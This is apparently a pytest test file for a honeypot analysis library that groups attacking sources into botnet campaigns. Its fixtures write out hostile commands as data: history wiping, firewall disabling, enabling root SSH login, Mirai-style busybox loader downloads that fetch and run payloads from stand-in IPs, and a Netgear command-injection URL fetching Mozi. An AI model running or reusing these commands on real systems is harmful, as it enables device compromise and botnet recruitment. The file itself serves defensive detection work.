"""Classes of campaigns seen on data the project did not write, and look-alikes that must stay apart.

Each case states the principle it checks: a shared value is evidence in proportion to how
unlikely independent sources are to share it, a botnet does not discount itself by being big,
and a placeholder value is never a shared value.
"""

from __future__ import annotations

import math
import random
from datetime import timedelta

import numpy as np
import pytest

from coord_core.analysis import features as fk
from coord_core.analysis.common_values import RANDOM_SECRET_MIN_BITS, secret_bits
from coord_core.analysis.engine import shared_tool_log_odds
from coord_core.analysis.frame import build_frame
from coord_core.analysis.linking import script_supersets
from coord_core.contracts.campaigns import AnalysisResult, Verdict
from coord_core.contracts.events import parse_event
from coord_core.contracts.sessions import AttackSession, Download, TcpipRequest
from coord_core.ingest.sessionize import sessionize, tunnel_data
from coord_core.pipeline.analyze import analyze_sessions
from tests.analysis.builders import PUBLIC_SCRIPT, T0, TOP_PASSWORDS, background, random_ip, session

HISTORY_WIPE = [
    "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; "
    "export HISTFILE=/dev/null ; export HISTSIZE=0; export HISTFILESIZE=0",
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
]


def _linked(result: AnalysisResult) -> list[set[str]]:
    return [set(c.source_ips) for c in result.campaigns if c.verdict is not Verdict.COINCIDENTAL]


def _pair_recall(result: AnalysisResult, truth: list[str]) -> float:
    groups = _linked(result)
    pairs = [(a, b) for i, a in enumerate(truth) for b in truth[i + 1 :]]
    together = sum(any(a in g and b in g for g in groups) for a, b in pairs)
    return together / len(pairs)


def _merged_with(result: AnalysisResult, ips: set[str]) -> int:
    """How many of ``ips`` sit in a non-coincidental campaign together with another of them."""
    return sum(len(g & ips) for g in _linked(result) if len(g & ips) >= 2)


def test_a_big_botnet_running_one_script_links_however_many_sources_run_it() -> None:
    rng = random.Random(21)
    bots = [random_ip(rng) for _ in range(40)]
    wave = [
        session(
            ip,
            rng.uniform(0, 7200),
            logins=[("root", rng.choice(TOP_PASSWORDS))],
            success=True,
            commands=HISTORY_WIPE,
        )
        for ip in bots
    ]
    result = analyze_sessions(wave + background(rng, 60, span_s=7200), {})
    assert _pair_recall(result, bots) >= 0.95


def test_downloads_without_a_url_or_to_dev_null_never_link_unrelated_sources() -> None:
    rng = random.Random(22)
    sessions: list[AttackSession] = []
    ips = [random_ip(rng) for _ in range(12)]
    for k, ip in enumerate(ips):
        s = session(ip, rng.uniform(0, 3600), logins=[("root", rng.choice(TOP_PASSWORDS))], success=True)
        url = "" if k % 2 else "/dev/null"
        shasum = None if k % 3 == 0 else f"{k:02x}" * 32
        sessions.append(s.model_copy(update={"downloads": [Download(url=url, shasum=shasum)]}))
    result = analyze_sessions(sessions + background(rng, 30), {})
    assert _merged_with(result, set(ips)) == 0


@pytest.mark.parametrize("secret", ["nV4#pq8Lz!Wm2sQx", "vLBgfEDyMgBHFfpw"])
def test_a_random_password_shared_by_a_few_sources_links_them(secret: str) -> None:
    """Letters only or not: a drawn string has no base word, however its letters read as a stem."""
    rng = random.Random(23)
    cell = [random_ip(rng) for _ in range(4)]
    sessions = [
        session(
            ip,
            rng.uniform(0, 20_000),
            # the secret among the common guesses every brute forcer tries
            logins=[("root", p) for p in rng.sample(TOP_PASSWORDS, 6)] + [("admin", secret)],
        )
        for ip in cell
    ]
    result = analyze_sessions(sessions + background(rng, 60, span_s=20_000), {})
    assert _pair_recall(result, cell) == 1.0


def test_an_identical_private_list_walked_in_order_by_two_sources_links_them() -> None:
    rng = random.Random(24)
    words = [f"{rng.choice(['srv', 'db', 'node', 'box'])}{rng.randint(100, 999)}x" for _ in range(150)]
    pair = [random_ip(rng) for _ in range(2)]
    sessions = []
    for n, ip in enumerate(pair):
        chunk = rng.randint(3, 6)  # each connection tries a few: the two sources cut the list differently
        for k in range(0, len(words), chunk):
            logins = [("root", w) for w in words[k : k + chunk]]
            sessions.append(session(ip, n * 20_000 + k * 10, logins=logins, key=k))
    result = analyze_sessions(sessions + background(rng, 60, span_s=40_000), {})
    assert _pair_recall(result, pair) == 1.0


def _tunnel(ip: str, at_s: float, dst: str, port: int, data: str, rng: random.Random) -> AttackSession:
    s = session(ip, at_s, logins=[("root", rng.choice(TOP_PASSWORDS))], success=True, key=dst)
    requests = [TcpipRequest(dst_ip=dst, dst_port=port), tunnel_data(dst, port, data)]
    return s.model_copy(update={"tcpip_requests": requests})


# Proxy checkers tunnel to a popular site by name, or to its address with the name in the request.
@pytest.mark.parametrize(
    ("site", "named"), [("www.google.com", "www.google.com"), ("208.95.112.1", "ip-api.com")]
)
def test_identical_tunnelled_bytes_to_an_uncommon_destination_link_and_proxy_checks_do_not(
    site: str, named: str
) -> None:
    rng = random.Random(25)
    relay = [random_ip(rng) for _ in range(6)]
    payload = "b'POST /gate.php HTTP/1.1\\r\\nHost: 185.11.22.33\\r\\nX-Bot: 7f3a\\r\\n\\r\\nid=1'"
    sessions = [_tunnel(ip, rng.uniform(0, 30_000), "185.11.22.33", 8080, payload, rng) for ip in relay]
    checkers = [random_ip(rng) for _ in range(10)]
    probe = f"b'GET / HTTP/1.1\\r\\nHost: {named}\\r\\nUser-Agent: Mozilla/5.0\\r\\n\\r\\n'"
    sessions += [_tunnel(ip, rng.uniform(0, 30_000), site, 443, probe, rng) for ip in checkers]
    result = analyze_sessions(sessions + background(rng, 40, span_s=30_000), {})
    assert _pair_recall(result, relay) == 1.0
    assert _merged_with(result, set(checkers)) == 0


def test_shell_variable_names_are_part_of_a_template_and_random_tokens_are_not() -> None:
    from coord_core.analysis.normalise import profile_commands

    wipe = profile_commands((HISTORY_WIPE[0],)).template[0]
    assert "HISTFILE" in wipe and "HISTLOG" in wipe and "<tok>" not in wipe
    assert (
        profile_commands(("/bin/busybox ECCHI",)).template
        == profile_commands(("/bin/busybox QWZLP",)).template
    )


BOTNET_SCRIPT = [
    "cd /var/tmp; mkdir -p .x11-unix-cache && cd .x11-unix-cache",
    "echo 'kworker_helper' > /etc/hostname.bak; chattr -ia /etc/passwd 2>/dev/null",
    "iptables -F; systemctl stop firewalld 2>/dev/null; pkill -9 -f xmrig",
    "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config",
]


def test_a_script_unrelated_networks_run_day_after_day_is_weak_and_a_burst_is_strong() -> None:
    """History: the input's own days. A public tool seen every day from unrelated networks does not
    join its users; a botnet's script that appears on one day does, however many run it."""
    rng = random.Random(26)
    sessions: list[AttackSession] = []
    public_users: list[str] = []
    for day in range(6):
        for _ in range(5):
            ip = random_ip(rng)
            public_users.append(ip)
            sessions.append(
                session(
                    ip,
                    day * 86_400 + rng.uniform(0, 80_000),
                    logins=[("root", "admin")],
                    commands=PUBLIC_SCRIPT,
                )
            )
        sessions += background(rng, 10, span_s=86_400)
    bots = [random_ip(rng) for _ in range(12)]
    sessions += [
        session(ip, 3 * 86_400 + rng.uniform(0, 3_600), logins=[("root", "1234")], commands=BOTNET_SCRIPT)
        for ip in bots
    ]
    result = analyze_sessions(sessions, {})
    assert result.run.history is not None and result.run.history["endemic_values"] >= 1
    assert _pair_recall(result, bots) == 1.0
    assert _merged_with(result, set(public_users)) == 0
    # Without history the public script looks like one toolkit shared by thirty sources.
    blind = analyze_sessions(sessions, {}, history=None)
    assert _merged_with(blind, set(public_users)) > 0


TOOLKIT = [
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox cat /proc/mounts",
    "/bin/busybox echo -e '\\x41\\x42' > /dev/.qzfk; /bin/busybox cat /dev/.qzfk; /bin/busybox rm /dev/.qzfk",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ftpget",
    "cd /tmp || cd /var/run || cd /mnt; /bin/busybox wget http://203.0.113.9/x.sh; sh x.sh",
]


def test_a_toolkit_that_skips_optional_steps_still_links_through_the_lines_it_did_run() -> None:
    """Every line of a smaller script found in a bigger one is the same toolkit running more of it."""
    rng = random.Random(31)
    bots = [random_ip(rng) for _ in range(8)]
    sessions = []
    for k, ip in enumerate(bots):
        # each bot runs the fixed preamble and its echo probe, plus a different subset of the rest
        optional = [line for j, line in enumerate(TOOLKIT[4:]) if j != 1 and (k >> j) & 1]
        script = [*TOOLKIT[:4], TOOLKIT[5], *optional]
        sessions.append(
            session(
                ip, rng.uniform(0, 3600), logins=[("root", "vizxv")], success=True, commands=script, port=23
            )
        )
    result = analyze_sessions(sessions + background(rng, 40), {})
    assert _pair_recall(result, bots) >= 0.95
    # and a recon one-liner every toolkit runs joins nobody
    lone = [random_ip(rng) for _ in range(6)]
    recon = [
        session(ip, rng.uniform(0, 3600), logins=[("root", "admin")], success=True, commands=["uname -a"])
        for ip in lone
    ]
    assert _merged_with(analyze_sessions(recon + sessions + background(rng, 40), {}), set(lone)) == 0


def test_bots_that_only_probed_join_the_bots_that_fetched_the_loader_when_the_probe_links() -> None:
    """A probe held beyond chance covers the bots that ran it inside a longer script, grouped or not.

    Some bots of one build fetch its loader (one host links them); others stop after the probe.
    The probe's holders, inside the loader script or alone, are one toolkit: one campaign.
    """
    rng = random.Random(33)
    probe = [TOOLKIT[3], TOOLKIT[5]]
    fetchers, probers = [random_ip(rng) for _ in range(8)], [random_ip(rng) for _ in range(5)]
    sessions = [
        session(
            ip,
            rng.uniform(0, 3600),
            logins=[("root", "vizxv")],
            success=True,
            # every fetcher ran the loader; only some typed the probe before it
            commands=[*(probe if k % 2 else TOOLKIT[:2]), TOOLKIT[7]],
            downloads=[("http://203.0.113.9/x.sh", "ab" * 32)],
            port=23,
        )
        for k, ip in enumerate(fetchers)
    ] + [
        session(ip, rng.uniform(0, 3600), logins=[("root", "xc3511")], success=True, commands=probe, port=23)
        for ip in probers
    ]
    result = analyze_sessions(sessions + background(rng, 40), {})
    assert _pair_recall(result, fetchers + probers) == 1.0


def test_one_uncommon_client_on_every_source_counts_and_a_common_one_does_not() -> None:
    """An operator's own kit on all its addresses: chance would need share^(k-1)."""
    rng = random.Random(32)
    own = [f"45.137.21.{n}" for n in (11, 40, 77, 130)]
    kit = [
        session(ip, 600.0 * k, logins=[("oracle", "x")], client="SSH-2.0-Custom_0.3", hassh="c" * 32)
        for k, ip in enumerate(own)
    ]
    frame = build_frame(kit + background(rng, 80, span_s=3600))
    members = np.array([frame.source_ips.index(ip) for ip in own], dtype=np.int64)
    odds = shared_tool_log_odds(frame, members)
    assert odds == pytest.approx(3 * math.log(frame.n_sources / 4), rel=1e-6)
    common = np.array([i for i, ip in enumerate(frame.source_ips) if ip not in own][:4], dtype=np.int64)
    assert shared_tool_log_odds(frame, common) < 0.2 * odds


def test_an_operator_rotating_through_its_24_with_its_own_client_is_one_actor() -> None:
    """Sequential sources of one /24 on one uncommon client build, nothing else shared: one actor.
    A crowded hosting /24 of unrelated brute-forcers on the window's commonest client stays apart."""
    rng = random.Random(33)
    own = [f"45.135.232.{n}" for n in (55, 91, 166, 186)]
    sessions = []
    for k, ip in enumerate(own):
        for j in range(5):  # one address at a time, each trying its own guesses
            tried = [("root", f"{rng.choice(['seoul', 'tplink', 'princess'])}{k}{j}{x}") for x in "!@#"]
            sessions.append(
                session(
                    ip,
                    k * 5400.0 + 600 * j,
                    logins=tried,
                    client="SSH-2.0-libssh_0.8.9",
                    hassh="d" * 32,
                    key=j,
                )
            )
    hosting = [f"193.42.33.{n}" for n in range(10, 30)]
    for ip in hosting:
        base = rng.uniform(0, 4 * 3600)
        tried = [("root", p) for p in rng.sample(TOP_PASSWORDS, 4)]
        sessions.append(session(ip, base, logins=tried))
    result = analyze_sessions(sessions + background(rng, 120, span_s=4 * 3600), {})
    found = [c for c in result.campaigns if set(own) <= set(c.source_ips)]
    assert found and found[0].verdict is Verdict.SINGLE_ACTOR_MULTI_SOURCE
    assert _merged_with(result, set(hosting)) == 0


def test_a_toolkits_own_terminal_request_counts_as_tooling_and_a_library_default_does_not() -> None:
    """An operator's /24 on the commonest client whose sessions ask for one odd pty size and env:
    one actor. A crowded /24 whose sessions ask for the library default (80x24) stays apart."""
    rng = random.Random(34)
    own = [f"45.141.84.{n}" for n in (12, 57, 98, 201)]
    crowd = [f"193.42.34.{n}" for n in range(10, 30)]
    sessions = []
    for k, ip in enumerate(own):
        for j in range(4):
            tried = [("root", f"{rng.choice(['seoul', 'tplink', 'princess'])}{k}{j}{x}") for x in "!@#"]
            s = session(ip, k * 5400.0 + 600 * j, logins=tried, key=j)
            sessions.append(
                s.model_copy(update={"terminal": "211x51", "env": ["LC_ALL=C", "TERM=xterm-256color"]})
            )
    for ip in crowd:
        tried = [("root", p) for p in rng.sample(TOP_PASSWORDS, 4)]
        s = session(ip, rng.uniform(0, 4 * 3600), logins=tried)
        sessions.append(s.model_copy(update={"terminal": "80x24"}))
    noise = [
        s.model_copy(update={"terminal": "80x24"}) if i % 2 else s
        for i, s in enumerate(background(rng, 120, span_s=4 * 3600))
    ]
    result = analyze_sessions(sessions + noise, {})
    found = [c for c in result.campaigns if set(own) <= set(c.source_ips)]
    assert found and found[0].verdict is Verdict.SINGLE_ACTOR_MULTI_SOURCE
    assert _merged_with(result, set(crowd)) == 0
    frame = build_frame(sessions + noise)
    members = np.array([frame.source_ips.index(ip) for ip in own], dtype=np.int64)
    crowded = np.array([frame.source_ips.index(ip) for ip in crowd[:4]], dtype=np.int64)
    assert shared_tool_log_odds(frame, members) > 5 * shared_tool_log_odds(frame, crowded)


def _mirai_bots(
    rng: random.Random, marker: str, echo_file: str, loader: str, n: int
) -> tuple[list[str], list[AttackSession]]:
    """Bots of one Mirai-family build: its fixed marker, echo file and loader host; optional steps."""
    ips = [random_ip(rng) for _ in range(n)]
    sessions = []
    for ip in ips:
        lines = ["enable", "system", "shell", "sh", f"/bin/busybox {marker}"]
        if rng.random() < 0.7:
            lines.append(f"/bin/busybox cat /proc/mounts; /bin/busybox {marker}")
        if rng.random() < 0.6:
            lines.append(f"/bin/busybox echo -e '\\x41' > /dev/{echo_file}; /bin/busybox rm /dev/{echo_file}")
        if rng.random() < 0.3:
            lines.append(f"/bin/busybox wget http://{loader}/bins/x.arm7 -O - > dvr; ./dvr telnet.arm7")
        sessions.append(
            session(
                ip, rng.uniform(0, 86000), logins=[("root", "xc3511")], success=True, commands=lines, port=23
            )
        )
    return ips, sessions


def test_two_mirai_builds_with_their_own_markers_are_never_one_campaign() -> None:
    """Both builds type the Mirai loader's lines; each has its own fixed ``/bin/busybox`` marker.
    A marker several sources type is the build's own, as a loader host is: two builds stay apart."""
    rng = random.Random(35)
    a, bots_a = _mirai_bots(rng, "ECCHI", ".nippon", "185.10.68.1", 25)
    b, bots_b = _mirai_bots(rng, "SORA", ".ptmx", "45.95.147.9", 15)
    result = analyze_sessions(bots_a + bots_b + background(rng, 200, span_s=86400), {})
    for group in _linked(result):
        assert not (group & set(a) and group & set(b)), "two builds merged"
    # Each build is one campaign, however the loader lines it shares with the other link.
    assert _pair_recall(result, a) >= 0.8 and _pair_recall(result, b) >= 0.8


def test_sources_walking_one_list_of_random_entries_on_an_uncommon_client_link() -> None:
    """Each source tries the next few entries of one list of random-looking credentials (no base
    words to chain) on one uncommon client, one session each over ten hours; the window's other
    guessers on the commonest client, many trying only rare entries too, stay apart."""
    rng = random.Random(36)
    accounts = ["admin", "oracle", "git", "deploy"]  # each source tries its slice's accounts
    entries = [(rng.choice(accounts), f"{rng.getrandbits(40):010x}") for _ in range(60)]
    walkers = [random_ip(rng) for _ in range(10)]
    sessions, cursor = [], 0
    for k, ip in enumerate(walkers):
        count = rng.randint(3, 5)
        tried = entries[cursor : cursor + count]
        cursor += count
        sessions.append(session(ip, 3600.0 * k, logins=tried, client="SSH-2.0-Ninja_1.2", hassh="ab" * 16))
    guessers = [random_ip(rng) for _ in range(40)]
    for n, ip in enumerate(guessers):  # a quarter of them try only entries nobody else tries
        tried = [("root", rng.choice(TOP_PASSWORDS)) for _ in range(rng.randint(1, 3)) if n % 4]
        tried += [("root", f"{rng.getrandbits(32):08x}") for _ in range(rng.randint(1, 2))]
        sessions.append(session(ip, rng.uniform(0, 36000), logins=tried))
    result = analyze_sessions(sessions + background(rng, 150, span_s=36000), {})
    assert _pair_recall(result, walkers) >= 0.9
    assert _merged_with(result, set(guessers)) == 0


def test_a_script_covers_only_bigger_scripts_that_run_its_lines_in_its_order() -> None:
    """Optional steps are skipped, never moved: ``sh; shell; X`` is run inside ``sh; shell; X; Y``
    but not inside another build's ``enable; system; shell; sh; X; Y`` (same lines, other order)."""
    probe = "/bin/busybox cat /proc/mounts"
    small = ["sh", "shell", probe]
    same_build = ["sh", "shell", probe, "/bin/busybox wget; /bin/busybox tftp"]
    other_build = ["enable", "system", "shell", "sh", probe, "/bin/busybox wget; /bin/busybox tftp"]
    sessions = [
        session(f"45.9.{k}.1", 60.0 * k, logins=[("root", "xc3511")], success=True, commands=c, port=23)
        for k, c in enumerate([small, same_build, other_build])
    ]
    frame = build_frame(sessions)
    template = fk.KIND_INDEX[fk.TEMPLATE.name]
    fid = {
        ip: next(int(f) for f in frame.features_of(src) if frame.feature_kind[f] == template)
        for src, ip in enumerate(frame.source_ips)
    }
    covered = script_supersets(frame, np.array([fid["45.9.0.1"]]))
    assert covered == {fid["45.9.0.1"]: [fid["45.9.1.1"]]}


def _dropper(host: str, script: str) -> str:
    return (
        f"cd /tmp; wget http://{host}/{script}; chmod 777 {script}; sh {script}; tftp {host} -c get t{script}"
    )


def test_a_file_name_is_never_a_host_so_waves_with_new_script_names_stay_one_campaign() -> None:
    """``tftp HOST -c get t.sh`` names one host; ``t.sh`` is a file, whatever its TLD-like suffix."""
    rng = random.Random(34)
    waves = [[random_ip(rng) for _ in range(5)] for _ in range(2)]
    sessions = []
    for w, (ips, script) in enumerate(zip(waves, ("update.sh", "wget.sh"), strict=True)):
        for ip in ips:
            s = session(ip, w * 18_000 + rng.uniform(0, 3600), logins=[("root", "123456")], success=True)
            command = _dropper("45.141.87.19", script)
            sessions.append(
                s.model_copy(
                    update={
                        "commands": [command],
                        "downloads": [Download(url=f"http://45.141.87.19/{script}")],
                    }
                )
            )
    result = analyze_sessions(sessions + background(rng, 40, span_s=30_000), {})
    assert _pair_recall(result, waves[0] + waves[1]) == 1.0
    # and two unrelated droppers fetching the same file name from their own hosts stay apart
    other = [random_ip(rng) for _ in range(2)]
    apart = [
        session(
            ip,
            rng.uniform(0, 3600),
            logins=[("root", "123456")],
            success=True,
            commands=[_dropper(host, "bins.sh")],
        )
        for ip, host in zip(other, ("91.92.1.10", "185.7.2.20"), strict=True)
    ]
    assert _merged_with(analyze_sessions(apart + background(rng, 40), {}), set(other)) == 0


@pytest.mark.parametrize(
    ("password", "random_looking"),
    [
        ("vLBgfEDyMgBHFfpw", True),
        ("mD7kLp2QxZw4", True),
        # drawn, though their letters have vowels and no long consonant run: a letter-bigram model
        # of words explains them far worse than a uniform draw
        ("oluNlReDVYS5bz", True),
        ("9rsytjtxdkubgs", True),
        ("ds4vek8xuekqjo", True),
        ("zhangwei123456", False),  # a pinyin name: the model fits it worse, within the prior odds
        ("Zxcvphoenix36!", False),  # a keyboard walk before a word
        ("dragonqwerty2024", False),
        ("kAtHeRiNe", False),  # a name in alternating case
        ("ThisIsMyPassword", False),
        ("Strength2024!", False),
        ("Rhythm1234", False),
        ("qwertyQWERTY", False),
    ],
)
def test_only_drawn_strings_count_as_secrets(password: str, random_looking: bool) -> None:
    assert (secret_bits(password) >= RANDOM_SECRET_MIN_BITS) is random_looking


RECON_LINES = [
    "uname -a",
    "whoami",
    "id",
    "cat /proc/cpuinfo",
    "free -m",
    "w",
    "uptime",
    "ls -la",
    "ps aux",
    "nproc",
    "df -h",
    "cat /etc/issue",
    "ifconfig",
    "last",
    "history",
]


def _busybox_token(rng: random.Random, length: int) -> str:
    """A Mirai-style random upper-case token (``/bin/busybox ECCHI``), drawn per session."""
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(length))


def _drop_name(rng: random.Random) -> str:
    """A loader's random file name for its download."""
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))


def _telnet_bot_session(
    rng: random.Random, ip: str, script: list[str], downloads: list[tuple[str, str | None]]
) -> AttackSession:
    """A bot's telnet session over the day: the Mirai default login, then its script."""
    return session(
        ip, rng.uniform(0, 86400), logins=[("root", "xc3511")], success=True,
        commands=script, downloads=downloads, port=23,
    )  # fmt: skip


def _variant_botnet(rng: random.Random, n_bots: int) -> tuple[list[AttackSession], list[str], list[str]]:
    """A loader build whose bots skip optional steps and name their download at random, beside
    unrelated intruders typing common recon in their own order: (sessions, bots, intruders)."""
    bots = [random_ip(rng) for _ in range(n_bots)]
    loader = "http://203.0.113.9/bins/arm7"
    sessions = []
    for k, ip in enumerate(bots):
        token = _busybox_token(rng, 6)
        script = [
            "sh",
            "shell",
            f"/bin/busybox {token}",
            *(line for line in TOOLKIT[4:7] if rng.random() < 0.5),
        ]
        downloads: list[tuple[str, str | None]] = []
        if k % 2:
            drop = _drop_name(rng)
            script.append(f"cd /tmp; /bin/busybox wget {loader} -O {drop}; chmod 777 {drop}; ./{drop} arm7")
            downloads.append((loader, "7c" * 32))
        sessions.append(_telnet_bot_session(rng, ip, script, downloads))
    intruders = [random_ip(rng) for _ in range(30)]
    for ip in intruders:
        commands = rng.sample(RECON_LINES, rng.randint(3, 5))
        sessions.append(
            session(ip, rng.uniform(0, 86400), logins=[("root", "admin")], success=True, commands=commands)
        )
    return sessions, bots, intruders


def test_a_botnet_does_not_discount_its_own_script_by_typing_variants_of_it() -> None:
    """Optional steps and a random file name per bot make nearly every session's script distinct;
    those variants are one toolkit, so they count once when a line's commonness is measured, and
    the bots that skipped the download join the ones that fetched it through the lines they share.
    Unrelated intruders typing common recon in their own order still join nobody."""
    recalls = []
    for seed in (37, 38, 39):
        rng = random.Random(seed)
        sessions, bots, intruders = _variant_botnet(rng, 24)
        result = analyze_sessions(sessions + background(rng, 60, span_s=86400), {})
        recalls.append(_pair_recall(result, bots))
        assert _merged_with(result, set(intruders)) == 0
    # Counted template by template, the build's own lines weighed half: only the bots that
    # fetched the loader linked (pooled recall 0.24); the bots that skipped it now join through
    # the lines they share wherever two of them typed the same script.
    assert sum(recalls) / len(recalls) >= 0.5


PartialBuild = tuple[list[AttackSession], list[str], list[str], list[str]]


def _build_with_partial_runs(rng: random.Random) -> PartialBuild:
    """A loader build's bots (opening, probes, loader), two bots that stopped after one probe and
    two that typed only the opening: (sessions, loaders, stopped, opening only)."""
    loader_url = "http://203.0.113.9/bins/mips"
    opening = ["sh", "shell"]
    probe = "/bin/busybox wget; /bin/busybox tftp; /bin/busybox {token}"
    loaders, stopped, bare = ([random_ip(rng) for _ in range(n)] for n in (16, 2, 2))
    sessions = []
    for ip in loaders + stopped + bare:
        token = _busybox_token(rng, 7)
        script = [*opening, f"/bin/busybox {token}"]
        downloads: list[tuple[str, str | None]] = []
        if ip not in bare:
            script.append(probe.format(token=token))
        if ip in loaders:
            drop = _drop_name(rng)
            script.append(f"/bin/busybox wget {loader_url} -O - > {drop}; /bin/busybox chmod 777 {drop}")
            downloads.append((loader_url, "9d" * 32))
        sessions.append(_telnet_bot_session(rng, ip, script, downloads))
    return sessions, loaders, stopped, bare


def test_bots_that_stop_part_way_through_their_toolkit_join_the_bots_that_ran_all_of_it() -> None:
    """A script past its toolkit's opening, run in order inside the toolkit's longer variants, is
    held by their sources too when chance sharing is tested; a bare opening (every Mirai-family
    build types one) joins nobody."""
    for seed in (41, 42, 43):
        rng = random.Random(seed)
        sessions, loaders, stopped, bare = _build_with_partial_runs(rng)
        result = analyze_sessions(sessions + background(rng, 80, span_s=86400), {})
        groups = _linked(result)
        botnet = next(g for g in groups if set(loaders) <= g)
        assert set(stopped) <= botnet
        assert not set(bare) & set().union(*groups)


def test_unrelated_intruders_opening_with_the_same_recon_one_liners_stay_apart() -> None:
    """``uname -a; whoami; id`` opens the sessions of countless unrelated actors: a script of
    recon one-liners known to be everyone's (``COMMON_COMMANDS``) is not a toolkit fingerprint,
    however many sources in the window type it (61 of 200 such intruders were merged before)."""
    for seed in range(3):
        rng = random.Random(seed)
        intruders = [random_ip(rng) for _ in range(40)]
        rest = [line for line in RECON_LINES if line not in ("uname -a", "whoami", "id")]
        sessions = [
            session(
                ip, rng.uniform(0, 86400), logins=[("root", "admin")], success=True,
                commands=["uname -a", "whoami", "id", *rng.sample(rest, rng.randint(1, 4))],
            )
            for ip in intruders
        ]  # fmt: skip
        result = analyze_sessions(sessions + background(rng, 60, span_s=86400), {})
        assert _merged_with(result, set(intruders)) == 0


def test_an_ordered_list_walked_by_one_uncommon_tool_is_one_campaign_where_its_slices_break_on_words() -> (
    None
):
    """Sources hand each other slices of one rule-expanded list; a slice that ends on a word
    boundary shares no base word with the next, so the walkers chained through shared words fall
    into pieces. Under an uncommon client (one tool) every walker of the list is the campaign's,
    not only the biggest piece's."""
    rng = random.Random(71)
    words = ["quasar", "helix", "orchid", "tundra", "falcon", "juniper", "cobalt", "mistral"]
    rules = ["{w}123", "{W}!", "{w}2024", "{w}#1"]
    accounts = ["deploy", "jenkins", "steam"]  # the list cycles its accounts word by word
    entries = [
        (accounts[n % 3], rule.format(w=w, W=w.capitalize())) for n, w in enumerate(words) for rule in rules
    ]
    sizes = [3, 3, 3, 3, 3, 3, 3, 3, 4, 4]  # chained 1-4 and 5-8; a slice ends on a word after 4, 8, 9
    walkers = [random_ip(rng) for _ in sizes]
    sessions, start = [], 0
    for k, (ip, size) in enumerate(zip(walkers, sizes, strict=True)):
        tried = entries[start : start + size]
        start += size
        sessions.append(
            session(
                ip, 1800.0 * k + rng.uniform(0, 600), logins=tried,
                client="SSH-2.0-libssh_0.9.6", hassh="5c" * 16,
            )
        )  # fmt: skip
    result = analyze_sessions(sessions + background(rng, 120, span_s=6 * 3600), {})
    assert any(set(walkers) <= group for group in _linked(result))


LIBSSH = ("SSH-2.0-libssh_0.9.6", "f555226df1963d1d3c09daf865abdc9a")


def test_a_scanning_wave_of_one_client_that_never_logs_in_is_one_campaign() -> None:
    """40 addresses of one client build connect within ten seconds and never log in: nothing is
    shared but the tool and the moment, and independent users of a tool do not start together."""
    rng = random.Random(31)
    wave = [random_ip(rng) for _ in range(40)]
    client, hassh = LIBSSH
    sessions = [
        session(ip, 1000 + rng.uniform(0, 10), client=client, hassh=hassh, duration_s=3) for ip in wave
    ]
    result = analyze_sessions(sessions + background(rng, 120), {})
    assert _pair_recall(result, wave) == 1.0
    (campaign,) = [c for c in result.campaigns if set(c.source_ips) & set(wave)]
    assert "scan_burst" in {e.factor for e in campaign.evidence}
    assert campaign.verdict is Verdict.COORDINATED_CAMPAIGN


def test_independent_scanners_stay_apart_however_busy_the_hour() -> None:
    """A day of connect-only scanners: the common Go build at a rate that triples at the daily peak,
    and a few each of other builds spread over the day. Busy hours are not a schedule."""
    for seed in range(3):
        rng = random.Random(40 + seed)
        day = 86_400.0
        scanners: list[AttackSession] = []
        while len(scanners) < 400:
            at = rng.uniform(0, day)
            if rng.random() < 0.33 + 0.67 * (1 + math.sin(2 * math.pi * at / day)) / 2:
                scanners.append(session(random_ip(rng), at, duration_s=2))
        for k in range(60):
            client, hassh = (LIBSSH[0], LIBSSH[1]) if k % 2 else ("SSH-2.0-PUTTY", "6f" * 16)
            scanners.append(session(random_ip(rng), rng.uniform(0, day), client=client, hassh=hassh))
        result = analyze_sessions(scanners + background(rng, 150, span_s=day), {})
        assert _linked(result) == [], seed


def test_users_of_the_commonest_client_who_connect_in_one_minute_are_a_collision_not_a_wave() -> None:
    """15 connect-only sources of the Go build every brute forcer in the window uses, all within a
    minute: a scanning wave of a build the rest of the window never uses would link (above)."""
    rng = random.Random(51)
    scanners = [random_ip(rng) for _ in range(15)]
    at = rng.uniform(0, 3000)
    sessions = [session(ip, at + rng.uniform(0, 60), duration_s=2) for ip in scanners]
    result = analyze_sessions(sessions + background(rng, 150), {})
    assert _merged_with(result, set(scanners)) == 0


def _web_request(ip: str, at_s: float, target: str, user_agent: str, n: int) -> AttackSession:
    """One web-honeypot request (each is its own session, keyed by its document id)."""
    event = parse_event(
        {
            "eventid": "dshield.web.request",
            "timestamp": (T0 + timedelta(seconds=at_s)).isoformat(),
            "session": f"web-{n}",
            "src_ip": ip,
            "sensor": "web-a",
            "method": "GET",
            "url": target,
            "user_agent": user_agent,
            "dst_port": 8080,
        }
    )
    (web,) = sessionize([event])
    return web


def test_web_exploits_that_fetch_one_dropper_host_are_one_campaign_and_web_scanners_stay_apart() -> None:
    """The web honeypot's command injections name the file they want fetched: 20 bots naming one
    dropper host are one botnet; 150 scanners asking the same common paths share nothing."""
    rng = random.Random(33)
    bots = [random_ip(rng) for _ in range(20)]
    injection = (
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://45.95.147.20:44821/"
        "Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"
    )
    requests = [
        _web_request(ip, rng.uniform(0, 3600), injection, "Hello, world", n) for n, ip in enumerate(bots)
    ]
    scanners = [random_ip(rng) for _ in range(150)]
    probes = ["/", "/.env", "/.git/config", "/wp-login.php", "/?url=http://169.254.169.254/latest/meta-data/"]
    agents = [
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    ]
    for ip in scanners:
        for path in rng.sample(probes, 3):
            requests.append(_web_request(ip, rng.uniform(0, 3600), path, rng.choice(agents), len(requests)))
    result = analyze_sessions(requests + background(rng, 80), {})
    assert _pair_recall(result, bots) == 1.0
    assert _merged_with(result, set(scanners)) == 0
